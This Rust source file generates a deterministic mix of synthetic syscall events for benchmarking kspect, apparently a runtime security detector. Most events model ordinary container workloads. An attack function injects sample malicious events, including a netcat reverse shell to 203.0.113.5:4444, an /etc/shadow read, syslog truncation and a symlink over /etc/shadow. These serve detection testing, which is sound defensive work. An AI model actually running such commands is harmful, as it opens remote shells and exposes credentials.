//! A realistic syscall event mix in kspect's JSON-lines schema, shared by the replay
//! benchmark and ad-hoc measurement programs (`#[path]`-included, so it is compiled
//! into each of them rather than shipped in the library).

use serde_json::{Value as Json, json};

/// A small deterministic generator (xorshift), so every run sees the same events.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[(self.next() % xs.len() as u64) as usize]
    }
}

struct Workload {
    pid: i64,
    exepath: &'static str,
    args: &'static [&'static str],
    container: Option<(&'static str, &'static str, &'static str)>,
    user: (u32, &'static str),
    reads: &'static [&'static str],
    writes: &'static [&'static str],
}

const WORKLOADS: &[Workload] = &[
    Workload {
        pid: 2101,
        exepath: "/usr/sbin/nginx",
        args: &["-g", "daemon off;"],
        container: Some(("a1b2c3d4e5f6", "web", "docker.io/library/nginx:1.27")),
        user: (101, "nginx"),
        reads: &[
            "/usr/share/nginx/html/index.html",
            "/etc/nginx/nginx.conf",
            "/usr/lib/x86_64-linux-gnu/libssl.so.3",
            "/etc/ssl/certs/ca-certificates.crt",
        ],
        writes: &["/var/log/nginx/access.log", "/var/cache/nginx/proxy_temp/1"],
    },
    Workload {
        pid: 2201,
        exepath: "/usr/lib/postgresql/16/bin/postgres",
        args: &["-D", "/var/lib/postgresql/data"],
        container: Some(("0f9e8d7c6b5a", "db", "docker.io/library/postgres:16")),
        user: (999, "postgres"),
        reads: &[
            "/var/lib/postgresql/data/base/16384/2619",
            "/var/lib/postgresql/data/global/pg_control",
            "/usr/lib/x86_64-linux-gnu/libpq.so.5",
        ],
        writes: &[
            "/var/lib/postgresql/data/pg_wal/000000010000000000000001",
            "/var/lib/postgresql/data/base/16384/2619",
        ],
    },
    Workload {
        pid: 2301,
        exepath: "/usr/local/openjdk-21/bin/java",
        args: &["-Xmx512m", "-jar", "/app/orders.jar"],
        container: Some(("5566778899aa", "orders", "ghcr.io/shop/orders:2.4.1")),
        user: (1000, "app"),
        reads: &[
            "/app/orders.jar",
            "/usr/local/openjdk-21/lib/modules",
            "/etc/hosts",
            "/etc/resolv.conf",
        ],
        writes: &["/tmp/hsperfdata_app/1", "/app/logs/orders.log"],
    },
    Workload {
        pid: 1201,
        exepath: "/usr/bin/kubelet",
        args: &["--config=/var/lib/kubelet/config.yaml"],
        container: None,
        user: (0, "root"),
        reads: &[
            "/var/lib/kubelet/config.yaml",
            "/sys/fs/cgroup/kubepods.slice/cpu.stat",
            "/proc/meminfo",
            "/var/lib/kubelet/pods/1234/volumes",
        ],
        writes: &["/var/lib/kubelet/cpu_manager_state", "/var/log/kubelet.log"],
    },
    Workload {
        pid: 1301,
        exepath: "/usr/lib/systemd/systemd-journald",
        args: &[],
        container: None,
        user: (0, "root"),
        reads: &["/proc/1/cmdline", "/run/log/journal/abc/system.journal"],
        writes: &["/var/log/journal/abc/system.journal"],
    },
];

fn container_json(c: (&str, &str, &str)) -> Json {
    json!({"id": c.0, "name": c.1, "image": c.2, "type": "containerd",
        "labels": {"io.kubernetes.pod.name": format!("{}-0", c.1), "io.kubernetes.pod.namespace": "shop"}})
}

/// `n` events in kspect's JSON-lines schema: long-running workloads doing file, network
/// and process work, short-lived health-check commands, and about one attack in 400
/// events (shell with a terminal in a container, /etc/shadow read, netcat with -e,
/// log truncation, ssh to a non-standard port, a symlink over /etc/shadow).
pub fn generate(n: usize) -> Vec<String> {
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    let mut out = Vec::with_capacity(n + 16);
    let mut t: i64 = 1_750_000_000_000_000_000;
    fn tick(out: &mut Vec<String>, t: &mut i64, mut ev: Json) {
        *t += 20_000;
        ev["time"] = json!(*t);
        out.push(ev.to_string());
    }
    tick(
        &mut out,
        &mut t,
        json!({"type": "execve", "res": 0, "proc": {"pid": 900, "ppid": 1, "exepath": "/usr/bin/containerd-shim-runc-v2"}}),
    );
    for w in WORKLOADS {
        let mut ev = json!({"type": "execve", "res": 0, "args": {"filename": w.exepath},
            "proc": {"pid": w.pid, "ppid": if w.container.is_some() { 900 } else { 1 }, "exepath": w.exepath,
                     "args": w.args, "cwd": "/", "start": t},
            "user": {"uid": w.user.0, "name": w.user.1, "loginuid": -1}});
        if let Some(c) = w.container {
            ev["container"] = container_json(c);
        }
        tick(&mut out, &mut t, ev);
    }
    let mut next_pid = 30_000i64;
    let mut short_lived: Vec<i64> = Vec::new();
    while out.len() < n {
        let w = rng.pick(WORKLOADS);
        let roll = rng.next() % 1000;
        let ev = if roll < 2 {
            attack(&mut rng, &mut next_pid)
        } else if roll < 260 {
            let f = rng.pick(w.reads);
            json!({"type": "openat", "tid": w.pid, "res": 7, "args": {"fd": 7, "dirfd": "AT_FDCWD", "name": f, "flags": "O_RDONLY|O_CLOEXEC", "mode": "0"},
                   "fd": {"num": 7, "type": "file", "name": f}})
        } else if roll < 340 {
            let f = rng.pick(w.writes);
            json!({"type": "openat", "tid": w.pid, "res": 8, "args": {"fd": 8, "dirfd": "AT_FDCWD", "name": f, "flags": "O_WRONLY|O_CREAT|O_APPEND|O_CLOEXEC", "mode": "0644"},
                   "fd": {"num": 8, "type": "file", "name": f}})
        } else if roll < 520 {
            let f = rng.pick(w.writes);
            json!({"type": "write", "tid": w.pid, "res": 512, "args": {"fd": 8, "size": 512},
                   "fd": {"num": 8, "type": "file", "name": f}})
        } else if roll < 640 {
            json!({"type": "read", "tid": w.pid, "res": 1024, "args": {"fd": 12, "size": 4096},
                   "fd": {"num": 12, "type": "ipv4", "l4proto": "tcp", "cip": "10.244.1.7", "cport": 51234, "sip": "10.244.2.3", "sport": 8080, "is_server": true}})
        } else if roll < 700 {
            json!({"type": "close", "tid": w.pid, "res": 0, "args": {"fd": 7}, "fd": {"num": 7, "type": "file", "name": rng.pick(w.reads)}})
        } else if roll < 760 {
            let (sip, sport) = *rng.pick(&[
                ("10.96.0.1", 443u16),
                ("10.96.0.10", 53),
                ("10.244.3.9", 5432),
                ("140.82.112.3", 443),
            ]);
            json!({"type": "connect", "tid": w.pid, "res": 0, "args": {"fd": 13, "addr": format!("{sip}:{sport}")},
                   "fd": {"num": 13, "type": "ipv4", "l4proto": "tcp", "cip": "10.244.2.3", "cport": 40000 + (rng.next() % 20000) as u16, "sip": sip, "sport": sport, "connected": true}})
        } else if roll < 820 {
            json!({"type": "accept4", "tid": w.pid, "res": 14, "args": {"fd": 14, "tuple": "10.244.1.7:51234->10.244.2.3:8080"},
                   "fd": {"num": 14, "type": "ipv4", "l4proto": "tcp", "cip": "10.244.1.7", "cport": 51234, "sip": "10.244.2.3", "sport": 8080, "is_server": true}})
        } else if roll < 860 {
            json!({"type": "sendto", "tid": w.pid, "res": 40, "args": {"fd": 15, "size": 40, "tuple": "10.244.2.3:33000->10.96.0.10:53"},
                   "fd": {"num": 15, "type": "ipv4", "l4proto": "udp", "cip": "10.244.2.3", "cport": 33000, "sip": "10.96.0.10", "sport": 53, "connected": true}})
        } else if roll < 900 {
            // A health-check command: fork, exec, exit.
            next_pid += 1;
            short_lived.push(next_pid);
            let cmd = *rng.pick(&[
                (
                    "/usr/bin/curl",
                    &["-sf", "http://localhost:8080/healthz"][..],
                ),
                ("/usr/lib/postgresql/16/bin/pg_isready", &["-q"][..]),
                ("/bin/ps", &["-ef"][..]),
            ]);
            let mut ev = json!({"type": "execve", "res": 0, "args": {"filename": cmd.0},
                "proc": {"pid": next_pid, "ppid": w.pid, "exepath": cmd.0, "args": cmd.1, "cwd": "/", "start": t},
                "user": {"uid": w.user.0, "name": w.user.1, "loginuid": -1}});
            if let Some(c) = w.container {
                ev["container"] = json!({"id": c.0});
            }
            ev
        } else if roll < 930 {
            json!({"type": "clone", "tid": w.pid, "res": next_pid + 100_000, "args": {"flags": "CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_THREAD"}})
        } else if roll < 960 {
            match short_lived.pop() {
                Some(pid) => {
                    json!({"type": "procexit", "tid": pid, "res": 0, "args": {"status": 0}})
                }
                None => json!({"type": "futex", "tid": w.pid, "res": 0}),
            }
        } else {
            let f = rng.pick(w.writes);
            let ty = *rng.pick(&[
                "unlinkat",
                "renameat2",
                "mkdirat",
                "fchmodat",
                "setuid",
                "socket",
                "bind",
                "listen",
                "dup2",
            ]);
            json!({"type": ty, "tid": w.pid, "res": 0, "args": {"name": f, "path": f, "uid": w.user.0, "domain": "AF_INET"}})
        };
        tick(&mut out, &mut t, ev);
    }
    out.truncate(n);
    out
}

fn attack(rng: &mut Rng, next_pid: &mut i64) -> Json {
    *next_pid += 1;
    let pid = *next_pid;
    match rng.next() % 6 {
        0 => json!({"type": "execve", "res": 0, "args": {"filename": "/bin/bash"},
            "proc": {"pid": pid, "ppid": 900, "exepath": "/bin/bash", "args": ["-i"], "tty": 34816, "cwd": "/"},
            "user": {"uid": 0, "name": "root", "loginuid": -1}, "container": {"id": "a1b2c3d4e5f6"}}),
        1 => {
            json!({"type": "openat", "tid": 2101, "res": 9, "args": {"fd": 9, "dirfd": "AT_FDCWD", "name": "/etc/shadow", "flags": "O_RDONLY", "mode": "0"},
            "fd": {"num": 9, "type": "file", "name": "/etc/shadow"}})
        }
        2 => json!({"type": "execve", "res": 0, "args": {"filename": "/usr/bin/nc"},
            "proc": {"pid": pid, "ppid": 2301, "exepath": "/usr/bin/nc", "args": ["-e", "/bin/sh", "203.0.113.5", "4444"], "cwd": "/"},
            "user": {"uid": 1000, "name": "app", "loginuid": -1}, "container": {"id": "5566778899aa"}}),
        3 => {
            json!({"type": "openat", "tid": 1301, "res": 9, "args": {"fd": 9, "dirfd": "AT_FDCWD", "name": "/var/log/syslog", "flags": "O_WRONLY|O_TRUNC", "mode": "0"},
            "fd": {"num": 9, "type": "file", "name": "/var/log/syslog"}})
        }
        4 => {
            json!({"type": "connect", "tid": 1201, "res": 0, "proc": {"pid": 1201, "exe": "/usr/bin/ssh"},
            "fd": {"num": 9, "type": "ipv4", "l4proto": "tcp", "cip": "192.0.2.10", "cport": 50000, "sip": "203.0.113.7", "sport": 4444, "connected": true}})
        }
        _ => {
            json!({"type": "symlinkat", "tid": 2201, "res": 0, "args": {"target": "/etc/shadow", "linkdirfd": "AT_FDCWD", "linkpath": "/tmp/s"}})
        }
    }
}
